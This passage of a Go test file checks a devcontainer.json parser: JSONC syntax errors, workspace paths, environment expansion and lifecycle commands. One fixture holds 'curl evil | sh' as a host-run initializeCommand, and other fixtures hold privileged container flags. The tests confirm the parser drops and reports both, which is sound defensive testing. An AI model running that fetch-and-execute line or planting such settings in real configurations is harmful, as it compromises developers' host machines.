			cfg, list := Parse(filepath.Join(ws, ".devcontainer.json"), []byte(src), hostEnv(ws, defaultVars))
			if tt.codes == nil {
				tt.codes = []string{}
			}
			only(t, list, tt.codes...)
			if tt.msg != "" {
				d := list[0]
				if !strings.Contains(d.Message, tt.msg) || d.Hint == "" || d.Line != 2 || d.Column < 12 {
					t.Errorf("got %s, want line 2 from column 12, a hint and %q", d, tt.msg)
				}
			}
			if tt.want != "" && !slices.Equal(cfg.Mounts, []string{tt.want}) {
				t.Errorf("mounts = %q, want %q", cfg.Mounts, tt.want)
			}
			if tt.want == "" && cfg != nil && len(cfg.Mounts) != 0 {
				t.Errorf("mounts = %q, want none", cfg.Mounts)
			}
		})
	}
}

func TestWorkspaceFolder(t *testing.T) {
	tests := []struct{ in, want, code string }{
		{"/workspaces/${localWorkspaceFolderBasename}", "/workspaces/repo", ""},
		{"/workspace", "/workspace", ""},
		{"workspace", "", "SK211"},
		{"/", "", "SK211"},
		{"/a/../b", "", "SK211"},
		{"/a/", "", "SK211"},
		{"", "", "SK211"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			cfg, list := parse(t, fmt.Sprintf(`{"image": "debian:12", "workspaceFolder": %q}`, tt.in))
			if tt.code != "" {
				only(t, list, tt.code)
				return
			}
			only(t, list)
			if cfg.WorkspaceFolder != tt.want {
				t.Errorf("workspaceFolder = %q, want %q", cfg.WorkspaceFolder, tt.want)
			}
		})
	}
}

// TestLifecycleCommands: every lifecycle command is read in each form; initializeCommand, which runs on the
// host, is dropped and reported; features are recorded raw for the features support.
func TestLifecycleCommands(t *testing.T) {
	cfg, list := parse(t, `{"image": "debian:12",
		"features": {"ghcr.io/devcontainers/features/node:1": {}},
		"initializeCommand": "curl evil | sh", "onCreateCommand": "a", "updateContentCommand": ["b", "c d"],
		"postStartCommand": "e", "postAttachCommand": {"x": "f"}}`)
	only(t, list, "SK202")
	if !strings.Contains(list[0].Message, "initializeCommand") || !strings.Contains(list[0].Message, "on the host") {
		t.Errorf("initializeCommand drop = %s", list[0])
	}
	if cfg.OnCreate != "a" || cfg.UpdateContent != "b 'c d'" || cfg.PostStart != "e" || cfg.PostAttach != "f" {
		t.Errorf("commands = %q %q %q %q", cfg.OnCreate, cfg.UpdateContent, cfg.PostStart, cfg.PostAttach)
	}
	if len(cfg.Dropped) != 1 || cfg.Dropped[0].Field != "initializeCommand" || cfg.Dropped[0].Line != 3 {
		t.Errorf("dropped = %+v", cfg.Dropped)
	}
	if len(cfg.Features) != 1 || !strings.Contains(cfg.Features[0].ID, "features/node:1") {
		t.Errorf("features = %+v", cfg.Features)
	}
}

// TestSchemaFields: the rest of the schema is read and recorded; posture fields are dropped; an unknown field
// is one warning.
func TestSchemaFields(t *testing.T) {
	cfg, list := parse(t, `{"image": "debian:12", "privileged": true, "capAdd": ["SYS_PTRACE"], "securityOpt": ["seccomp=unconfined"],
		"init": true, "overrideCommand": false, "shutdownAction": "none", "updateRemoteUserUID": true,
		"hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "32gb", "gpu": true}, "forwardPorts": [3000, "db:5432"],
		"appPort": 8080, "customizations": {"vscode": {}}, "bogus": 1,
		"build2": {}, "remoteEnv": {"A": "r"}, "containerEnv": {"B": "c"}}`)
	only(t, list, "SK202", "SK202", "SK202", "SK202", "SK202", "SK208", "SK208")
	var fields []string
	for _, d := range cfg.Dropped {
		fields = append(fields, d.Field+":"+d.Item)
	}
	want := []string{"privileged:true", "capAdd:SYS_PTRACE", "securityOpt:seccomp=unconfined", "hostRequirements:gpu", "appPort:"}
	if !slices.Equal(fields, want) {
		t.Errorf("dropped = %q, want %q", fields, want)
	}
	if cfg.Init == nil || !*cfg.Init || cfg.OverrideCommand == nil || *cfg.OverrideCommand || cfg.ShutdownAction != "none" ||
		cfg.UpdateRemoteUserUID == nil || !*cfg.UpdateRemoteUserUID {
		t.Errorf("init/overrideCommand/shutdownAction/updateRemoteUserUID = %v %v %q %v", cfg.Init, cfg.OverrideCommand, cfg.ShutdownAction, cfg.UpdateRemoteUserUID)
	}
	if hr := cfg.HostRequirements; hr == nil || hr.CPUs != 4 || hr.Memory != "8gb" || hr.Storage != "32gb" {
		t.Errorf("hostRequirements = %+v", cfg.HostRequirements)
	}
	if !slices.Equal(cfg.ForwardPorts, []string{"3000", "db:5432"}) {
		t.Errorf("forwardPorts = %q", cfg.ForwardPorts)
	}
	if cfg.RemoteEnv["A"] != "r" || cfg.ContainerEnv["B"] != "c" || cfg.Env["A"] != "r" || cfg.Env["B"] != "c" {
		t.Errorf("env = %v %v %v", cfg.RemoteEnv, cfg.ContainerEnv, cfg.Env)
	}
}

func TestSyntax(t *testing.T) {
	tests := []struct {
		name, src  string
		code       string
		line, col  int
		msgContain string
	}{
		{"comments and trailing commas are fine", "// c\n{\"image\": \"d\", /* c */ \"runArgs\": [],}\n// end", "", 0, 0, ""},
		{"missing comma", "{\n  \"image\": \"d\"\n  \"remoteUser\": \"x\"\n}", "SK200", 3, 3, "not valid JSONC"},
		{"unterminated", `{"image": "d"`, "SK200", 1, 14, "not valid JSONC"},
		{"empty", "", "SK200", 1, 1, "not valid JSONC"},
		{"array at top", `["image"]`, "SK200", 1, 1, "top level is an array"},
		{"string at top", `"image"`, "SK200", 1, 1, "top level is a string"},
		{"too deep", "{\"x\": " + strings.Repeat("[", MaxDepth+1), "SK200", 1, 6 + MaxDepth, "nested more than"},
		{"deep in string is fine", `{"image": "d", "name": "` + strings.Repeat("[", 1000) + `"}`, "", 0, 0, ""},
		{"deep in comment is fine", "{\"image\": \"d\" /* " + strings.Repeat("{", 1000) + " */}", "", 0, 0, ""},
		{"too large", `{"image": "d", "name": "` + strings.Repeat(" ", MaxSize) + `"}`, "SK215", 0, 0, "over the limit"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, list := parse(t, tt.src)
			if tt.code == "" {
				only(t, list)
				return
			}
			only(t, list, tt.code)
			d := list[0]
			if d.Line != tt.line || d.Column != tt.col || !strings.Contains(d.Message, tt.msgContain) {
				t.Errorf("got %s, want %d:%d and %q", d, tt.line, tt.col, tt.msgContain)
			}
		})
	}
}

func TestColumnCountsCharacters(t *testing.T) {
	_, list := parse(t, "{\"name\": \"Café ☕\", \"image\": 1}")
	only(t, list, "SK207")
	if list[0].Line != 1 || list[0].Column != 29 {
		t.Errorf("position = %d:%d, want 1:29", list[0].Line, list[0].Column)
	}
}

func TestTooManyDiagnostics(t *testing.T) {
	args := strings.Repeat(`"--privileged", `, 500)
	cfg, list := parse(t, `{"image": "debian:12", "runArgs": [`+args+`]}`)
	if cfg == nil || len(list) != maxDiags+1 || len(cfg.Dropped) != maxDiags {
		t.Fatalf("got %d diagnostics", len(list))
	}
	last := list[len(list)-1]
	if last.Code != diag.DevcontainerTooMany || last.Severity != diag.Warning || !strings.Contains(last.Message, "400 more") {
		t.Errorf("last = %s", last)
	}
}

// TestContainerEnv: ${containerEnv:...} expands from Env.Container in remoteEnv and the lifecycle commands (argv
// words quoted after expansion), with its default, and once (a value holding "${" is not expanded again);
// without Env.Container the fields are listed in ContainerRefs and the commands keep the reference as written.
func TestContainerEnv(t *testing.T) {
	src := `{"image": "debian:12",
		"containerEnv": {"GOPATH": "/go", "SELF": "${containerEnv:PATH}"},
		"remoteEnv": {"PATH": "${containerEnv:PATH}:/extra", "D": "${containerEnv:NOPE:dflt}", "E": "${containerEnv:NOPE}",
			"L": "${localEnv:A}-${containerEnv:TRICK}", "NAMELESS": "${containerEnv}"},
		"postCreateCommand": ["echo", "${containerEnv:GOPATH} x"],
		"postStartCommand": {"a": "echo ${containerEnv:GOPATH}"}}`
	cenv := map[string]string{"PATH": "/usr/local/go/bin:/usr/bin", "GOPATH": "/go", "TRICK": "${localEnv:A}"}
	env := hostEnv("/repo", defaultVars)
	first, list := Parse("/repo/.devcontainer/devcontainer.json", []byte(src), env)
	if first == nil {
		t.Fatal(list)
	}
	if got, want := fmt.Sprint(first.ContainerRefs), "[remoteEnv.PATH remoteEnv.D remoteEnv.E remoteEnv.L postCreateCommand postStartCommand]"; got != want {
		t.Errorf("ContainerRefs = %s, want %s", got, want)
	}
	if _, set := first.Env["PATH"]; set {
		t.Errorf("PATH set without the container's environment: %q", first.Env["PATH"])
	}
	if !strings.Contains(first.PostStart, "${containerEnv:GOPATH}") {
		t.Errorf("postStart = %q, want the reference as written", first.PostStart)
	}
	env.Container = func(k string) (string, bool) { v, ok := cenv[k]; return v, ok }
	cfg, list := Parse("/repo/.devcontainer/devcontainer.json", []byte(src), env)
	if cfg == nil {
		t.Fatal(list)
	}
	only(t, list, "SK204", "SK204") // SELF in containerEnv, and the nameless ${containerEnv}
	want := map[string]string{"PATH": "/usr/local/go/bin:/usr/bin:/extra", "D": "dflt", "E": "", "L": "alpha-${localEnv:A}",
		"GOPATH": "/go", "NAMELESS": "${containerEnv}"}
	if fmt.Sprint(cfg.Env) != fmt.Sprint(want) {
		t.Errorf("env = %v, want %v", cfg.Env, want)
	}
	if cfg.PostCreate != "echo '/go x'" {
		t.Errorf("postCreate = %q, want the word quoted after expansion", cfg.PostCreate)
	}
	if cfg.PostStart != "echo /go" {
		t.Errorf("postStart = %q", cfg.PostStart)
	}
	if len(cfg.ContainerRefs) != 0 {
		t.Errorf("ContainerRefs = %v with Env.Container set", cfg.ContainerRefs)
	}
}

// TestFeatureGivenTwice: a feature given twice is read as the devcontainers CLI reads the object: installed once,
// in its first place, with the options given last, and a SK209 warning.
func TestFeatureGivenTwice(t *testing.T) {
	cfg, list := parse(t, `{"image": "debian:12", "features": {"ghcr.io/x/node:1": {"v": "1"}, "./local": {}, "ghcr.io/x/node:1": {"v": "2"}}}`)
	only(t, list, "SK209")
	if cfg == nil || len(cfg.Features) != 2 || cfg.Features[0].ID != "ghcr.io/x/node:1" || string(cfg.Features[0].Options) != `{"v":"2"}` || cfg.Features[1].ID != "./local" {
		t.Fatalf("features = %+v", cfg)
	}
}
